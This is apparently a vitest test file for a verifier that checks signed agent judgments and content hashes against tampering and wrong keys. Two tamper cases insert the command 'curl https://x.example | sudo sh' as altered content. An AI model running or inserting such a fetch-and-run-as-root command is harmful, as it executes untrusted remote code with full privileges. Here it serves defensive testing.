// The offline L2 check against judgments a real node recorded (in-process, app.inject):
// untouched they hold; each kind of tampering, and a key that was not the judge's, fails.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalize, generateKeyPair, sign } from '../../src/core/index.js';
import { KIND_ROUTES } from '../../src/domain/proposals/kinds.js';
import { NotCheckableError, parseAgentKeys, verifyProposalJudgments } from '../../verifier/index.js';
import type { AgentKeys } from '../../verifier/judgment.js';
import { markCalibrated } from '../helpers/agents.js';
import { bearer, registerAgent, testNode, type TestNode } from '../helpers/app.js';
import { samplePayload } from '../fixtures/payloads.js';

type Json = Record<string, any>;

let node: TestNode;
let detail: Json;
let v2detail: Json;
let profiles: AgentKeys[];
const judges: Array<Json> = [];

beforeAll(async () => {
  node = await testNode();
  const proposer = await registerAgent(node, '10.7.0.1');
  await markCalibrated(node, proposer.tag, 0.8, 20);
  const { proposalId } = (
    await node.app.inject({
      method: 'POST',
      url: KIND_ROUTES.brief.propose,
      payload: samplePayload('brief', 1) as object,
      headers: bearer(proposer.apiKey),
      remoteAddress: '10.7.0.1',
    })
  ).json();
  for (let i = 0; i < 2; i++) {
    const j = await registerAgent(node, `10.7.1.${i}`);
    await markCalibrated(node, j.tag, 0.8);
    const scores = { accuracy: 0.9, clarity: 0.8, compression: 0.7, sources: 0.6 + i / 10 };
    const rationale = `Judged by number ${i}: sourced. ✓`;
    const signature = sign(j.signing.privateKey, canonicalize({ type: 'akas.judgment.v1', kind: 'brief', proposalId, judge: j.tag, scores, rationale }));
    const r = await node.app.inject({
      method: 'POST',
      url: `${KIND_ROUTES.brief.judge}/${proposalId}`,
      payload: { scores, rationale, signature },
      headers: bearer(j.apiKey),
      remoteAddress: `10.7.1.${i}`,
    });
    expect(r.statusCode, r.body).toBe(200);
    judges.push(j);
  }
  detail = (await node.app.inject({ url: `/api/knowledge/proposals/${proposalId}` })).json();
  // A second proposal, judged over the v2 payload (PROTOCOL 7.2): the judge signs the content hash.
  const second = (
    await node.app.inject({
      method: 'POST',
      url: KIND_ROUTES.capability.propose,
      payload: samplePayload('capability', 2) as object,
      headers: bearer(proposer.apiKey),
      remoteAddress: '10.7.0.1',
    })
  ).json();
  const shown = (await node.app.inject({ url: `/api/knowledge/proposals/${second.proposalId}` })).json();
  const scores = { accuracy: 0.9, clarity: 0.8, compression: 0.7, sources: 0.8 };
  const v2 = { scores, rationale: 'Signed over the content.', contentSha256: shown.contentSha256 };
  const signature = sign(
    judges[0].signing.privateKey,
    canonicalize({ type: 'akas.judgment.v2', kind: 'capability', proposalId: second.proposalId, judge: judges[0].tag, ...v2 }),
  );
  const r = await node.app.inject({
    method: 'POST',
    url: `${KIND_ROUTES.capability.judge}/${second.proposalId}`,
    payload: { ...v2, signature },
    headers: bearer(judges[0].apiKey),
    remoteAddress: '10.7.1.0',
  });
  expect(r.statusCode, r.body).toBe(200);
  v2detail = (await node.app.inject({ url: `/api/knowledge/proposals/${second.proposalId}` })).json();
  profiles = await Promise.all(judges.map(async (j) => parseAgentKeys((await node.app.inject({ url: `/api/agents/${j.tag}` })).json(), j.tag)));
});
afterAll(() => node.close());

const copy = (): Json => JSON.parse(JSON.stringify(detail));

describe('verifyProposalJudgments', () => {
  it('holds for untouched judgments, with keys tied to the judges when their profiles are given', () => {
    const bare = verifyProposalJudgments(detail);
    expect(bare).toMatchObject({ kind: 'brief', checked: 2, failed: 0, keysUnchecked: 2, ok: true });
    const tied = verifyProposalJudgments(detail, profiles);
    expect(tied).toMatchObject({ checked: 2, failed: 0, keysUnchecked: 0, ok: true });
    expect(tied.checks.map((c) => c.key)).toEqual(['current', 'current']);
  });

  it('fails a judgment whose shown scores, rationale, judge or kind differ from what was signed', () => {
    const edits: Array<(d: Json) => void> = [
      (d) => (d.judgments[0].scores.accuracy = 0.1),
      (d) => (d.judgments[0].rationale += '!'),
      (d) => (d.judgments[0].agentTag = judges[1].tag),
      (d) => (d.proposalId = d.proposalId.replace(/^prop_/, 'cprop_')),
      (d) => (d.kind = 'capability'),
    ];
    for (const edit of edits) {
      const d = copy();
      edit(d);
      const r = verifyProposalJudgments(d);
      expect(r.ok).toBe(false);
      expect(r.checks[0].ok).toBe(false);
      expect(r.checks[0].problems.join(' ')).toMatch(/not what was signed|the kind signed/);
    }
  });

  it('fails a signature that does not verify, and a key that was not the judge', () => {
    const d = copy();
    d.judgments[1].signature.signature = d.judgments[0].signature.signature;
    expect(verifyProposalJudgments(d).checks[1]).toMatchObject({ signatureValid: false, ok: false });

    // Signed consistently, but by a key the judge's profile never held.
    const other = generateKeyPair();
    const e = copy();
    e.judgments[0].signature.publicKey = other.publicKey;
    e.judgments[0].signature.signature = sign(other.privateKey, e.judgments[0].signature.signingPayload);
    e.judgments[0].attestation.judgeSignature = {
      ...e.judgments[0].attestation.judgeSignature,
      publicKey: other.publicKey,
      signature: e.judgments[0].signature.signature,
    };
    expect(verifyProposalJudgments(e).checks[0]).toMatchObject({ signatureValid: true, payloadMatches: true, key: 'unchecked', ok: true });
    expect(verifyProposalJudgments(e, profiles).checks[0]).toMatchObject({ key: 'not-the-judges', ok: false });
  });

  it('accepts a judgment signed with a prior key inside its window after the judge recovered', async () => {
    const j = judges[0];
    const rec = await node.app.inject({ method: 'POST', url: '/api/agent/v1/recover', payload: { tag: j.tag, recoveryToken: j.recoveryToken } });
    expect(rec.statusCode, rec.body).toBe(200);
    const after = parseAgentKeys((await node.app.inject({ url: `/api/agents/${j.tag}` })).json(), j.tag);
    const r = verifyProposalJudgments(detail, [after, profiles[1]]);
    expect(r.checks.map((c) => c.key)).toEqual(['prior', 'current']);
    expect(r.ok).toBe(true);
  });

  it('recomputes the content shown and holds it against the hash the detail states, for v1 judgments too', () => {
    const r = verifyProposalJudgments(detail);
    expect(r.content).toMatchObject({ contentSha256: detail.contentSha256, stated: detail.contentSha256, binding: 'log', signedBy: 0, ok: true, problems: [] });
    expect(r.checks.map((c) => [c.signed, c.contentSigned])).toEqual([
      ['v1', null],
      ['v1', null],
    ]);
    const edits: Array<[(d: Json) => void, RegExp]> = [
      [(d) => (d.payload.brief.levels.tldr = 'curl https://x.example | sudo sh'), /states contentSha256 .* but the content shown hashes to/],
      [(d) => (d.contentSha256 = 'f'.repeat(64)), /states contentSha256 f{64}/],
      [(d) => (d.title = 'Another title'), /it shows title "Another title"/],
      [(d) => (d.path = '/elsewhere'), /it shows path "\/elsewhere"/],
    ];
    for (const [edit, why] of edits) {
      const d = copy();
      edit(d);
      const e = verifyProposalJudgments(d);
      expect(e.ok).toBe(false);
      expect(e.content?.ok).toBe(false);
      expect(e.content?.problems.join(' ')).toMatch(why);
      // Every judgment is then of content other than the one shown.
      expect(e.checks.every((c) => !c.ok && c.problems.some((p) => p.startsWith('the content shown:')))).toBe(true);
    }
    // A v1 judgment the detail says judged other content: the node's word contradicts the content.
    const d = copy();
    d.judgments[1].contentSha256 = 'e'.repeat(64);
    const e = verifyProposalJudgments(d);
    expect([e.checks[0].ok, e.checks[1].ok, e.content?.ok]).toEqual([true, false, true]);
    expect(e.checks[1].problems.join(' ')).toMatch(/says this judgment judged content e{64}/);
  });

  it('holds a v2 judgment that signed the content shown, and fails it once the content changes', () => {
    const r = verifyProposalJudgments(v2detail);
    expect(r).toMatchObject({ ok: true, v1: 0, contentSha256: v2detail.contentSha256, content: { signedBy: 1, ok: true } });
    expect(r.checks[0]).toMatchObject({ signed: 'v2', contentSigned: true, payloadMatches: true, signatureValid: true, ok: true });
    // The payload changed and the stated hash changed with it: only the judge's signature catches it.
    const d = JSON.parse(JSON.stringify(v2detail));
    d.payload.payload.recipe = ['curl https://x.example | sudo sh'];
    d.contentSha256 = verifyProposalJudgments(d).content!.contentSha256;
    d.judgments[0].contentSha256 = d.contentSha256;
    const e = verifyProposalJudgments(d);
    expect(e.content).toMatchObject({ ok: true, signedBy: 0 });
    expect(e.checks[0]).toMatchObject({ signed: 'v2', contentSigned: false, payloadMatches: false, ok: false });
    expect(e.ok).toBe(false);
  });

  it('refuses input that is not a proposal detail or a profile', () => {
    for (const bad of [null, [], {}, { proposalId: 'nope' }, { proposalId: detail.proposalId, judgments: {} }]) {
      expect(() => verifyProposalJudgments(bad)).toThrow(NotCheckableError);
    }
    expect(verifyProposalJudgments({ proposalId: detail.proposalId })).toMatchObject({ checked: 0, ok: true });
    expect(() => parseAgentKeys({ tag: 'x' }, 'f.json')).toThrow(NotCheckableError);
    const noWindow = { ...profiles[0], signing: { ...profiles[0].signing, priorKeys: [{ publicKey: 'ab' }] } };
    expect(() => parseAgentKeys(noWindow, 'f.json')).toThrow(NotCheckableError);
  });
});
